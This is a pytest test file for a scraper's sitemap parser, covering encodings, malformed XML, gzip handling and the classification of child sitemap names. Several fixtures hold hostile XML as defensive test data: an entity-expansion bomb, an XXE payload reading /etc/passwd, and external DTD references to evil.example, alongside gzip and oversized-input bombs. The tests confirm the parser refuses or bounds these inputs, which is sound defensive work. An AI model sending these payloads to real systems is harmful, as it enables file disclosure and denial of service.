"""Sitemaps in every form that sites send them, hostile ones included."""

from __future__ import annotations

import gzip
import time
import zlib
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scraper.discover import sitemaps
from scraper.discover.sitemapnames import child_is_posts
from scraper.discover.sitemaps import MAX_ENTRIES, parse_sitemap
from scraper.discover.unpack import MAX_BYTES, unpack

BASE = "https://a.org/sitemap.xml"
NOW = datetime(2024, 8, 17, tzinfo=UTC)
NS = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def urlset(*locs: str) -> bytes:
    body = "".join(f"<url><loc>{loc}</loc><lastmod>2018-03-02T19:00:00+00:00</lastmod></url>" for loc in locs)
    return f'<?xml version="1.0" encoding="UTF-8"?><urlset {NS}>{body}</urlset>'.encode()


def addresses(content: bytes) -> list[str]:
    return [entry.url for entry in parse_sitemap(content, BASE, now=NOW).entries]


def test_a_plain_map() -> None:
    sitemap = parse_sitemap(urlset("https://a.org/post/x", "https://a.org/post/y"), BASE, now=NOW)
    assert (sitemap.kind, sitemap.reason) == ("urlset", "")
    assert [e.url for e in sitemap.entries] == ["https://a.org/post/x", "https://a.org/post/y"]
    lastmod = sitemap.entries[0].lastmod
    assert lastmod is not None
    assert lastmod.iso() == "2018-03-02T19:00:00+00:00"
    assert lastmod.source == "sitemap"


def test_an_index() -> None:
    content = (
        f"<sitemapindex {NS}><sitemap><loc>https://a.org/post-sitemap.xml</loc><lastmod>2018-03-02</lastmod></sitemap>"
        "<sitemap><loc>https://a.org/page-sitemap.xml</loc></sitemap></sitemapindex>"
    ).encode()
    sitemap = parse_sitemap(content, BASE)
    assert sitemap.kind == "index"
    assert [child_is_posts(e.url) for e in sitemap.entries] == [True, False]
    assert sitemap.entries[0].lastmod is not None
    assert sitemap.entries[1].lastmod is None


def test_children_in_a_urlset_are_an_index() -> None:
    content = b"<urlset><sitemap><loc>https://a.org/post-sitemap.xml</loc></sitemap></urlset>"
    assert parse_sitemap(content, BASE).kind == "index"


def test_addresses_of_images_and_videos_are_no_pages() -> None:
    content = (
        f'<urlset {NS} xmlns:image="i" xmlns:video="v" xmlns:news="n"><url>'
        "<image:image><image:loc>https://a.org/i.jpg</image:loc><image:title>Image</image:title></image:image>"
        '<image xmlns="i"><loc>https://a.org/j.jpg</loc></image>'
        "<video:video><video:player_loc>https://a.org/v</video:player_loc><video:title>V</video:title></video:video>"
        "<news:news><news:title>Grief  &amp; hope</news:title></news:news>"
        "<loc>https://a.org/x</loc></url></urlset>"
    ).encode()
    sitemap = parse_sitemap(content, BASE)
    assert [(e.url, e.title) for e in sitemap.entries] == [("https://a.org/x", "Grief & hope")]
    # the same without the end
    assert addresses(content[:-20]) == ["https://a.org/x"]


@pytest.mark.parametrize(
    "content",
    [
        b"\n\n  " + urlset("https://a.org/x"),
        b"\xef\xbb\xbf" + urlset("https://a.org/x"),
        b"\xef\xbb\xbf\r\n" + urlset("https://a.org/x"),
        urlset("https://a.org/x").decode().replace("UTF-8", "utf-16").encode("utf-16"),
        urlset("https://a.org/x").replace(b"UTF-8", b"x-unknown"),
        b"<br />\n<b>Warning</b>: include(): failed in <b>x.php</b><br />\n" + urlset("https://a.org/x"),
        b"Notice: undefined index\n" + urlset("https://a.org/x"),
        b"<s:urlset xmlns:s='http://a.b/0.84'><s:url><s:loc>https://a.org/x</s:loc></s:url></s:urlset>",
        b"<urlset><url><loc><![CDATA[ https://a.org/x ]]></loc></url></urlset>",
        b"<urlset><url><loc>\n  https://a.org/x\n</loc></url></urlset>",
        b"<urlset><url><loc>/x</loc></url></urlset>",
        b"<urlset><url><loc>//a.org/x</loc></url></urlset>",
        b"<urlset><url><LOC>https://a.org/x</LOC></url></urlset>",
        b"<urlset><undeclared:url/><url><loc>https://a.org/x</loc></url></urlset>",
        b"<urlset><url><loc>https://a.org/x</loc></url><url><loc>https:///f/y</loc></url></urlset>",
        b"<urlset><url><loc>https://a.org/x</loc></url><url><loc>https://a.org/x</loc></url></urlset>",
        b"<urlset><url><loc>https://a.org/x</loc></url><url><loc></loc></url><url><loc>mailto:a@b.org</loc></url></urlset>",
        b"<!DOCTYPE urlset><urlset><url><loc>https://a.org/x</loc></url></urlset>",
        b'<!DOCTYPE urlset SYSTEM "http://evil.example/x.dtd"><urlset><url><loc>https://a.org/x</loc></url></urlset>',
        gzip.compress(urlset("https://a.org/x")),
        gzip.compress(gzip.compress(urlset("https://a.org/x"))),
        gzip.compress(urlset("https://a.org/x")[:50]) + gzip.compress(urlset("https://a.org/x")[50:]),
        gzip.compress(urlset("https://a.org/x")) + b"\0\0trailing",
        b"https://a.org/x\n",
        b"\xef\xbb\xbfhttps://a.org/x\r\n\r\nnot an address\r\n",
    ],
)
def test_one_address_in_many_wrappings(content: bytes) -> None:
    assert addresses(content) == ["https://a.org/x"]


def test_an_unescaped_ampersand_and_a_cut_end() -> None:
    content = b"<urlset><url><loc>https://a.org/?p=1&q=2</loc><lastmod>2018-03-02</lastmod></url><url><loc>https://a.org/y</l"
    sitemap = parse_sitemap(content, BASE)
    assert [e.url for e in sitemap.entries] == ["https://a.org/?p=1&q=2", "https://a.org/y"]
    assert [e.lastmod is not None for e in sitemap.entries] == [True, False]
    assert "not well-formed" in sitemap.reason


def test_a_broken_index_is_an_index() -> None:
    content = b"<sitemapindex><sitemap><loc>https://a.org/post-sitemap.xml?a=1&b</loc></sitemap>"
    assert parse_sitemap(content, BASE).kind == "index"


def test_wrong_encoding() -> None:
    content = '<?xml version="1.0" encoding="UTF-8"?><urlset><url><loc>https://a.org/café</loc></url></urlset>'
    assert addresses(content.encode("latin-1")) == ["https://a.org/caf%C3%A9"]
    assert addresses(content.replace("UTF-8", "iso-8859-1").encode("latin-1")) == ["https://a.org/caf%C3%A9"]
    assert addresses(content.encode()) == ["https://a.org/caf%C3%A9"]


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        (b"Not found", "neither"),
        (b"<!DOCTYPE html><html><body><a href='https://a.org/x'>x</a></body></html>", "HTML"),
        (b"<html lang='en'><head></head></html>", "HTML"),
        (b"<root><item/></root>", "root"),
        (b"{}", "neither"),
        (b"\x89PNG\r\n\x1a\n", "neither"),
        (b"\x1f\x8b\x08broken", "gzip"),
        (b"<urlset", "not well-formed"),
    ],
)
def test_invalid(content: bytes, words: str) -> None:
    sitemap = parse_sitemap(content, BASE)
    assert sitemap.kind == "invalid"
    assert sitemap.entries == ()
    assert words in sitemap.reason


def test_an_empty_map_is_valid() -> None:
    assert parse_sitemap(f"<urlset {NS}></urlset>".encode(), BASE).kind == "urlset"


def test_unusable_addresses_are_counted() -> None:
    sitemap = parse_sitemap(urlset("https:///f/x", "javascript:alert(1)", "https://a.org/x"), BASE)
    assert len(sitemap.entries) == 1
    assert "2 entries" in sitemap.reason


def test_a_feed_given_as_a_map() -> None:
    content = (
        b"<?xml version='1.0'?><rss version='2.0'><channel><item><title>T</title><link>https://a.org/x</link>"
        b"<pubDate>Fri, 02 Mar 2018 19:00:00 -0800</pubDate></item></channel></rss>"
    )
    sitemap = parse_sitemap(content, BASE, now=NOW)
    assert sitemap.kind == "urlset"
    entry = sitemap.entries[0]
    assert (entry.url, entry.title) == ("https://a.org/x", "T")
    assert entry.lastmod is not None
    assert entry.lastmod.iso() == "2018-03-02T19:00:00-08:00"


BOMB = b"""<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><urlset><url><loc>https://a.org/&c;</loc></url></urlset>"""
XXE = b"""<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<urlset><url><loc>https://a.org/&x;</loc></url></urlset>"""
PARAMETER = b"""<!DOCTYPE urlset [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><urlset/>"""


@pytest.mark.parametrize("content", [BOMB, XXE, PARAMETER, BOMB.replace(b"</urlset>", b"&"), b"\n" + XXE])
def test_entities_are_refused(content: bytes) -> None:
    sitemap = parse_sitemap(content, BASE)
    assert (sitemap.kind, sitemap.entries) == ("invalid", ())
    assert "entities" in sitemap.reason


def test_more_entries_than_a_map_may_have(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sitemaps, "MAX_ENTRIES", 500)
    content = urlset(*(f"https://a.org/{n}" for n in range(510)))
    for version in (content, content[:-5]):
        sitemap = parse_sitemap(version, BASE)
        assert len(sitemap.entries) == 500
        assert f"only the first {MAX_ENTRIES} entries" in sitemap.reason


def test_unpacking_is_bounded() -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(b" " * 1_000_000) for _ in range(200)) + packer.flush()
    data, note = unpack(bomb)
    assert len(data) == MAX_BYTES
    assert "cut" in note
    assert parse_sitemap(bomb, BASE).kind == "invalid"
    many = gzip.compress(b"") * 20_000
    start = time.process_time()
    assert "members" in unpack(many)[1]
    assert time.process_time() - start < 5


def test_a_cut_gzip_gives_what_it_has() -> None:
    whole = gzip.compress(urlset(*(f"https://a.org/{n}-{n * 7919 % 1000}" for n in range(5000))))
    sitemap = parse_sitemap(whole[: len(whole) // 2], BASE)
    assert 1000 < len(sitemap.entries) < 5000
    assert "middle" in sitemap.reason


@pytest.mark.parametrize(
    "content",
    [
        b"<urlset>" + b"<a>" * 1_000_000,
        b"<urlset>" + b"<loc>" * 1_000_000,
        b"<urlset>" + b"<url><loc>x" * 300_000,
        b"<urlset><url><loc>" + b"x" * 5_000_000 + b"</loc></url></urlset>",
        b"<urlset><url " + b"a='b' " * 500_000,
        b"\n" * 5_000_000,
        b"<urlset>&" + b"<![CDATA[" * 500_000,
        b"<" * 3_000_000,
        b"<urlset><url><loc>" + b"&amp;" * 1_000_000 + b"</loc></url></urlset>",
        b"https://\n" * 500_000,
    ],
)
def test_hostile_maps_end_soon(content: bytes) -> None:
    start = time.process_time()
    parse_sitemap(content, BASE)
    assert time.process_time() - start < 5


@given(st.binary(max_size=300))
def test_never_raises(content: bytes) -> None:
    for data in (content, b"<urlset>" + content, gzip.compress(content)[:-3], b"\x1f\x8b\x08\x00" + content):
        parse_sitemap(data, BASE, now=NOW)


PIECES = st.sampled_from(
    b"<urlset> <url> <loc> </loc> https://a.org/x <lastmod> 2018-03-02 & <![CDATA[ ]]> </url> <sitemap> \xff "
    b"<image> </image> <!DOCTYPE[ <image:loc> </urlset> <?xml?> <rss> <item>".split()
)


@given(st.lists(PIECES, max_size=20))
def test_never_raises_on_near_maps(pieces: list[bytes]) -> None:
    for entry in parse_sitemap(b"".join(pieces), BASE).entries:
        assert entry.url.startswith("https://a.org/")


@pytest.mark.parametrize(
    ("name", "posts"),
    [
        ("post-sitemap.xml", True),
        ("post-sitemap2.xml", True),
        ("posts-sitemap.xml", True),
        ("wp-sitemap-posts-post-1.xml", True),
        ("sitemap-pt-post-2021-03.xml", True),
        ("sitemap-posts.xml", True),
        ("blog-posts-sitemap.xml", True),
        ("sitemap.blog.xml", True),
        ("sitemap_blogs_1.xml", None),
        ("sitemap-articles.xml.gz", True),
        ("sitemaps/posts/1.xml", True),
        ("page-sitemap.xml", False),
        ("pages-sitemap.xml", False),
        ("wp-sitemap-posts-page-1.xml", False),
        ("wp-sitemap-posts-product-1.xml", False),
        ("wp-sitemap-taxonomies-category-1.xml", False),
        ("wp-sitemap-taxonomies-post_tag-1.xml", False),
        ("wp-sitemap-users-1.xml", False),
        ("category-sitemap.xml", False),
        ("blog-categories-sitemap.xml", False),
        ("post_tag-sitemap.xml", False),
        ("author-sitemap.xml", False),
        ("product-sitemap.xml", False),
        ("store-products-sitemap.xml", False),
        ("forum-posts-sitemap.xml", False),
        ("image-sitemap-1.xml", False),
        ("video-sitemap.xml", False),
        ("elementor_library-sitemap.xml", False),
        ("et_pb_layout-sitemap.xml", False),
        ("testimonial-sitemap.xml", False),
        ("team-sitemap.xml", False),
        ("events-sitemap.xml", False),
        ("local-sitemap.xml", False),
        ("sitemap-tags.xml", False),
        ("sitemap-pt-page-2021-03.xml", False),
        ("sitemap-1.xml", None),
        ("sitemap.xml?page=1", None),
        ("sitemap-0.xml", None),
        ("news-sitemap.xml", None),
        ("podcast-sitemap.xml", True),
        ("wp-sitemap-posts-podcast-1.xml", True),
        ("sitemap-posts-page-2.xml", None),
        ("sitemaps/posts/page-2.xml", True),
        ("sitemaps/pages/page-2.xml", False),
        ("blog-archive-sitemap.xml", None),
        ("product-post-archive.xml", False),
        ("", None),
    ],
)
def test_names_of_child_maps(name: str, posts: bool | None) -> None:
    assert child_is_posts(f"https://a.org/{name}") is posts
